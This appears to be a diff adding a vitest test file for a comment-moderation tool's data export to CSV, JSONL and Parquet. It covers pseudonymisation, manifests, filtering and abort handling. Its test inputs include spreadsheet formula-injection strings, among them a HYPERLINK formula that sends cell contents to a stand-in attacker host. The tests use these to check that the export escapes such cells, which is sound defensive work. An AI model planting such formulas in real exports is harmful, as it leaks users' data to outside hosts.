@@ -1,0 +1,257 @@
+import { mkdtemp, readdir, readFile, rm, writeFile } from "node:fs/promises";
+import { tmpdir } from "node:os";
+import { join } from "node:path";
+import { DuckDBInstance } from "@duckdb/node-api";
+import { parse } from "csv-parse/sync";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { addInputJob } from "../../src/cli/addInputJob.js";
+import { listSamples } from "../../src/cli/samples.js";
+import { ExportManifest } from "../../src/export/manifest.js";
+import { type ExportFiles, exportTables } from "../../src/export/exportTables.js";
+import type { ExportOrder } from "../../src/export/exportOrder.js";
+import { verifyExport } from "../../src/export/verifyExport.js";
+import { decide } from "../../src/store/decisions.js";
+import { EXPORT_TABLES } from "../../src/store/export/tables.js";
+import { addAccount } from "../../src/store/reviewers.js";
+import { sha256 } from "../../src/thread/identity.js";
+import { runStages } from "../../workers/stages.js";
+import { makeDatabase, makeShell, type TestDatabase } from "../support/database.js";
+import { fillComments } from "../support/fillComments.js";
+
+let database: TestDatabase;
+let folder: string;
+const PLAIN: ExportOrder = { target: "ukraine-support", withNames: false, withText: false };
+const HOSTILE = [
+  '=HYPERLINK("https://evil.example/?q="&A1,"see")',
+  "+1 to that",
+  "-1 from me",
+  "@everyone, look",
+  "\tTabbed first",
+  'Quotes "here", commas, and\r\na line',
+  "",
+  "Plain words, and a \u{1f6a2}",
+];
+
+beforeAll(async () => {
+  database = await makeDatabase();
+  const { sql } = database;
+  folder = await mkdtemp(join(tmpdir(), "parley-export-"));
+  const first = await fillComments(sql, 60);
+  const [sample] = await listSamples();
+  if (sample === undefined) throw new Error("there is no sample");
+  const shell = {
+    ...makeShell(sql),
+    pseudonymise: (site: string, key: string) => `p-${sha256(site + key)}`,
+  };
+  await runStages(shell, await addInputJob(sql, sample.path, sample.flags, "sample"));
+  for (const [at, text] of HOSTILE.entries())
+    await sql`update parley.comments set body = ${text} where id = ${first + at}`;
+  await sql`update parley.comments set posted_earliest = null, posted_latest = null
+    where id = ${first + 20}`;
+  const kim = await addAccount(sql, "kim-of-the-desk", "moderator", {
+    text: "a password for tests",
+    from: "chosen",
+  });
+  await decide(sql, first, { action: "approve" }, kim);
+  await decide(sql, first, { action: "reject", reason: "spam", note: "Seen it before." }, kim);
+});
+afterAll(async () => {
+  await database.drop();
+  await rm(folder, { recursive: true });
+});
+
+const exportTo = (files: Partial<ExportFiles> & { out: string }, order = PLAIN) =>
+  exportTables(database.sql, order, {
+    kind: "folder",
+    format: "jsonl",
+    tables: EXPORT_TABLES,
+    ...files,
+    out: join(folder, files.out),
+  });
+
+const readJsonLines = async (path: string): Promise<Record<string, unknown>[]> =>
+  (await readFile(join(folder, path), "utf8"))
+    .split("\n")
+    .filter(Boolean)
+    .map((line) => JSON.parse(line) as Record<string, unknown>);
+
+/** What DuckDB reads, in the shape JSON has. */
+async function readParquet(path: string) {
+  const duck = await (await DuckDBInstance.create()).connect();
+  try {
+    const found = await duck.runAndReadAll(`select * from read_parquet('${join(folder, path)}')`);
+    const types = Object.fromEntries(
+      found.columnNames().map((name, at) => [name, String(found.columnTypes()[at])]),
+    );
+    return { types, rows: found.getRowObjectsJS() as Record<string, unknown>[] };
+  } finally {
+    duck.closeSync();
+  }
+}
+
+const toJson = (value: unknown): unknown => {
+  if (typeof value === "bigint") return Number(value);
+  return value instanceof Date ? value.toISOString() : value;
+};
+
+describe("an export of tables", () => {
+  it("is the same rows in every format, as DuckDB and a CSV reader find them", async () => {
+    const order = { ...PLAIN, withNames: true, withText: true };
+    await exportTo({ out: "all-jsonl" }, order);
+    await exportTo({ out: "all-parquet", format: "parquet" }, order);
+    await exportTo({ out: "all-csv", format: "csv" }, order);
+    for (const { name, columns } of EXPORT_TABLES) {
+      const stated = await readJsonLines(`all-jsonl/${name}.jsonl`);
+      expect(stated.length, name).toBeGreaterThan(0);
+      const { rows } = await readParquet(`all-parquet/${name}.parquet`);
+      expect(
+        rows.map((row) => Object.fromEntries(Object.entries(row).map(([k, v]) => [k, toJson(v)]))),
+      ).toEqual(stated);
+      const records: string[][] = parse(await readFile(join(folder, `all-csv/${name}.csv`)));
+      const [head, ...lines] = records;
+      expect(head).toEqual(columns.map((column) => column.name));
+      const cell = (value: unknown): string => {
+        if (value === null) return "";
+        const text = typeof value === "string" ? value : JSON.stringify(value);
+        return typeof value === "string" && /^[=+@\t\r-]/.test(text) ? `'${text}` : text;
+      };
+      expect(lines).toEqual(stated.map((row) => Object.values(row).map(cell)));
+    }
+    const { types } = await readParquet("all-parquet/comments.parquet");
+    expect(types).toMatchObject({
+      comment_id: "BIGINT",
+      posted_earliest_at: "TIMESTAMP WITH TIME ZONE",
+      incivility: "DOUBLE",
+      is_truncated: "BOOLEAN",
+      flag_rules: "VARCHAR[]",
+    });
+  });
+
+  it("has neither names nor words unless they are asked for", async () => {
+    const { sql } = database;
+    const manifest = await exportTo({ out: "plain" });
+    expect(manifest).toMatchObject({ withNames: false, withText: false });
+    let all = "";
+    for (const name of await readdir(join(folder, "plain")))
+      all += await readFile(join(folder, "plain", name), "utf8");
+    const secret = await sql`
+      select author as word from parley.comments where length(author) > 5
+      union select author_key from parley.commenters where author_key ~ '^a-'
+      union select left(body, 40) from parley.comments where length(body) > 30
+      union select name from parley.reviewers where length(name) > 5`;
+    expect(secret.length).toBeGreaterThan(50);
+    // Not `toContain`: it would show all of the export.
+    expect(secret.filter(({ word }) => all.includes(String(word)))).toEqual([]);
+    const named = await exportTo({ out: "named" }, { ...PLAIN, withNames: true });
+    expect(named.withNames).toBe(true);
+    expect((await readJsonLines("named/comments.jsonl"))[0]).toHaveProperty("author");
+  });
+
+  it("is the same bytes of the same rows, and says which in its manifest", async () => {
+    for (const format of ["csv", "jsonl", "parquet"] as const) {
+      const one = await exportTo({ out: `one-${format}`, format });
+      const two = await exportTo({ out: `two-${format}`, format });
+      expect(two.files).toEqual(one.files);
+      const { manifest, files } = await verifyExport(join(folder, `one-${format}/manifest.json`));
+      expect(manifest).toEqual(one);
+      expect(files.every(({ state }) => state === "same")).toBe(true);
+    }
+    const path = join(folder, "one-csv");
+    await writeFile(join(path, "flags.csv"), "changed");
+    await rm(join(path, "decisions.csv"));
+    const { files } = await verifyExport(join(path, "manifest.json"));
+    expect(files.filter(({ state }) => state !== "same")).toEqual([
+      { name: "flags.csv", state: "changed" },
+      { name: "decisions.csv", state: "missing" },
+    ]);
+  });
+
+  it("counts what the discussions hold, by the rows themselves", async () => {
+    const { coverage, files } = await exportTo({ out: "counted" });
+    const rows = await readJsonLines("counted/comments.jsonl");
+    const count = (test: (row: Record<string, unknown>) => boolean) => rows.filter(test).length;
+    expect(coverage).toMatchObject({
+      articles: 2,
+      comments: rows.length,
+      commentsUndated: count((row) => row.posted_earliest_at === null),
+      commentsTruncated: count((row) => row.is_truncated === true),
+      parentsInferred: count((row) => row.parent_evidence === "inferred"),
+      parentsByReplyLine: count((row) => row.parent_evidence === "reply-line"),
+    });
+    expect(coverage.commentsDeclared).toBeGreaterThan(0);
+    const { versions } = files.find(({ table }) => table === "comments") ?? {};
+    expect(Object.values(versions?.incivility_scorer ?? {})).toEqual([
+      count((row) => row.incivility_scorer !== null),
+    ]);
+    expect(Object.keys(versions ?? {})).toContain("parser");
+  });
+
+  it("holds the decision that is in force, and every one there was", async () => {
+    const [decided] = (await readJsonLines("counted/comments.jsonl")).filter(
+      (row) => row.decision !== null,
+    );
+    expect(decided).toMatchObject({ decision: "reject" });
+    const rows = await readJsonLines("counted/decisions.jsonl");
+    expect(rows.map((row) => [row.action, row.is_in_force])).toEqual([
+      ["approve", false],
+      ["reject", true],
+    ]);
+  });
+
+  it("is narrowed by site, article and period", async () => {
+    const ids = async (out: string, filters: Partial<ExportOrder>) => {
+      await exportTo({ out }, { ...PLAIN, ...filters });
+      return (await readJsonLines(`${out}/comments.jsonl`)).map((row) => row.ordinal as number);
+    };
+    expect(await ids("site", { site: "filled.example" })).toHaveLength(60);
+    expect(await ids("article", { article: "https://filled.example/a/" })).toHaveLength(60);
+    expect(await ids("none", { site: "other.example" })).toEqual([]);
+    const since = new Date("2026-01-01T00:10:00Z");
+    const until = new Date("2026-01-01T00:25:00Z");
+    const found = await ids("period", { site: "filled.example", since, until });
+    expect(found).toEqual([10, 11, 12, 13, 14, 15, 16, 17, 18, 19, 20, 22, 23, 24]);
+    const { rows } = await (async () => {
+      await exportTo(
+        { out: "none-parquet", format: "parquet" },
+        { ...PLAIN, site: "other.example" },
+      );
+      return readParquet("none-parquet/comments.parquet");
+    })();
+    expect(rows).toEqual([]);
+  });
+
+  it("leaves nothing where it is stopped, and writes over no folder", async () => {
+    const stop = new AbortController();
+    const stopped = exportTo(
+      { out: "stopped", tables: EXPORT_TABLES.slice(0, 2) },
+      {
+        ...PLAIN,
+        signal: stop.signal,
+        onRows: () => {
+          stop.abort();
+        },
+      },
+    );
+    await expect(stopped).rejects.toThrow(/abort/i);
+    expect((await readdir(folder)).filter((name) => name.includes("stopped"))).toEqual([]);
+    await expect(exportTo({ out: "counted" })).rejects.toMatchObject({
+      code: "OUTPUT_NOT_WRITABLE",
+    });
+    await expect(exportTo({ out: "no/such/place" })).rejects.toMatchObject({
+      code: "OUTPUT_NOT_WRITABLE",
+    });
+  });
+
+  it("writes one table as a file with its manifest beside it", async () => {
+    const [comments] = EXPORT_TABLES;
+    if (comments === undefined) throw new Error("there are no tables");
+    await exportTo({ out: "one.csv", kind: "file", format: "csv", tables: [comments] });
+    const manifest = ExportManifest.parse(
+      JSON.parse(await readFile(join(folder, "one.csv.manifest.json"), "utf8")),
+    );
+    expect(manifest.files.map(({ name }) => name)).toEqual(["one.csv"]);
+    await expect(verifyExport(join(folder, "one.csv"))).rejects.toMatchObject({
+      code: "MANIFEST_INVALID",
+    });
+  });
+});
